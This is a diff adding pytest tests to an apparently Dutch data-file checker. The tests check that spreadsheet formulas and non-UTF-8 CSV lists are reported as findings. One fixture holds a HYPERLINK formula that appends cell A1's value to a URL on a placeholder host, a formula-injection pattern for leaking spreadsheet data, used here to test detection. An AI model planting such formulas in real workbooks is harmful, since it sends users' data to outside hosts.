@@ -189,3 +189,21 @@ def test_a_response_that_names_its_own_body_is_let_be(where):
 def test_what_a_file_holds_is_kept_and_told_the_same_again(where):
     first = _response(where, ("bel 050-3181234",))
     assert _found(where) == first != set()
+
+
+def test_a_formula_without_a_stored_value_is_a_finding_too(where):
+    """openpyxl stores none, nor does who writes a workbook with a script."""
+    found = _response(where, remarks=['=HYPERLINK("http://voorbeeld.invalid/?"&A1,"klik")'])
+    assert ("cell=D4", "formula", "") in found
+
+
+@pytest.mark.parametrize(("encoding", "told"), [("utf-8", False), ("utf-16", True), ("cp1252", True)])
+def test_a_list_in_another_encoding_is_a_finding(where, encoding, told):
+    folder = where.raw / "editions"
+    folder.mkdir()
+    (folder / "deliveries.csv").write_text(
+        "file,source,snapshots,received_on\ne.csv,edition,2020,2020-09-30\n", encoding="utf-8"
+    )
+    text = "\n".join(("Nummer;Naam;Deelnemers", *(f"{n};Regio Súdwest {n};Groningen" for n in range(5)), ""))
+    (folder / "e.csv").write_bytes(text.encode(encoding))
+    assert any(f[1] == "other_encoding" for f in _found(where)) is told
